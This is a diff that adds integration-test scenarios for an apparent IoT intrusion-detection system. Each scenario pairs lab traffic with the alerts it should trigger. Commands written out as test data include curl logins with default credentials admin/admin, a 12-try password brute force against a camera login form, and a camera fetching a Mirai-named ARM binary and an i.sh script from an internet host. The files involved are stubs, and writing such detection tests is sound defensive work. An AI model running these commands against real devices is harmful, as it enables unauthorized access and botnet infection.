@@ -185,3 +185,48 @@ IT += [
                                                f"wget http://{FW_SERVER}/fw/manifest.json", "exit")],
              expect={"iot-telnet-session": 1}, tools=TELNET_TOOLS),
 ]
+
+HTTPD = "{py} {clients}/http_device.py {addr} {tmp}/www"
+WWW = ["www/index.html=<html>ipcam</html>\n", "www/fw/camera-fw-5.7.bin=FWIMAGE\n", "www/fw/manifest.json={}\n",
+       "www/bins/mirai.arm7=ELF\n", "www/i.sh=cd /tmp\n", "camera-fw-5.7.bin=FWIMAGE\n",
+       "passwords.txt=" + "".join(f"guess{i}\n" for i in range(12))]
+CURL = "curl -s -o /dev/null --max-time 5"
+
+
+def _http(name: str, what: str, server: str, client: str, commands: list[str], expect: dict,
+          tools: tuple[str, ...] = ("curl",)) -> Scenario:
+    return Scenario(name, what, [f"{server}/8" if server.startswith("10.") else f"{server}/24"],
+                    [f"{client}/8" if client.startswith("10.") else f"{client}/24"],
+                    servers=[HTTPD.replace("{addr}", server)], clients=["sleep 2", *commands], expect=expect,
+                    tools=list(tools), setup=WWW)
+
+
+IT += [
+    _http("http-basic-default", "curl with Basic auth admin/admin to a camera's CGI from a workstation", DEVICE, CORP_WS,
+          [f"{CURL} -u admin:admin http://{DEVICE}/cgi-bin/status"], {"iot-http-basic-auth-default-credentials": 1}),
+    _http("http-basic-site", "the same with the site password", DEVICE, CORP_WS,
+          [f"{CURL} -u admin:Site-Str0ng-7 http://{DEVICE}/cgi-bin/status"], {}),
+    # hydra 9.4's http-post-form against this server reconnected in a loop (571 SYNs, 2 POSTs in 40 s),
+    # so the guessing is curl posting the form, one connection per try as a scripted brute force does
+    _http("http-login-guessing", "12 curl posts of the camera's login form with wrong passwords", DEVICE, CORP_WS,
+          [f"{CURL} -d user=admin -d pass=guess{i} http://{DEVICE}/login.cgi" for i in range(12)],
+          {"iot-http-login-bruteforce": 1}),
+    _http("http-login-typo", "curl posting the login form twice: one typo, then the right password", DEVICE, CORP_WS,
+          [f"{CURL} -d user=admin -d pass=Site-Strong-7 http://{DEVICE}/login.cgi",
+           f"{CURL} -d user=admin -d pass=Site-Str0ng-7 http://{DEVICE}/login.cgi"], {}),
+    _http("http-firmware-upload", "curl uploading a firmware image to the camera's /upgrade.cgi from a workstation",
+          DEVICE, CORP_WS, [f"{CURL} -F fw=@{{tmp}}/camera-fw-5.7.bin http://{DEVICE}/upgrade.cgi"],
+          {"iot-firmware-upload-to-device-http": 1}),
+    _http("http-settings-post", "curl posting a settings form to the camera's /settings.cgi", DEVICE, CORP_WS,
+          [f"{CURL} -d ntp=10.0.0.123 http://{DEVICE}/settings.cgi"], {}),
+    _http("http-firmware-internal", "a camera's curl fetching its firmware image from the firmware server", FW_SERVER,
+          DEVICE, [f"{CURL} http://{FW_SERVER}/fw/camera-fw-5.7.bin"], {"iot-firmware-http-download": 1}),
+    _http("http-firmware-external", "a camera's curl fetching a firmware image from an internet host", OUTSIDE, DEVICE,
+          [f"{CURL} http://{OUTSIDE}/fw/camera-fw-5.7.bin"], {"iot-firmware-from-external-host": 1}),
+    _http("http-manifest-external", "a camera's curl fetching an update manifest (JSON) from an internet host", OUTSIDE,
+          DEVICE, [f"{CURL} http://{OUTSIDE}/fw/manifest.json", f"{CURL} http://{OUTSIDE}/"], {}),
+    _http("http-botnet-binary", "a camera's curl fetching a Mirai-named ARM binary from an internet host", OUTSIDE,
+          DEVICE, [f"{CURL} http://{OUTSIDE}/bins/mirai.arm7"], {"iot-botnet-arch-binary-download": 1}),
+    _http("http-botnet-script", "a camera's curl fetching a shell script from an internet host", OUTSIDE, DEVICE,
+          [f"{CURL} http://{OUTSIDE}/i.sh"], {"iot-botnet-shell-script-download": 1}),
+]
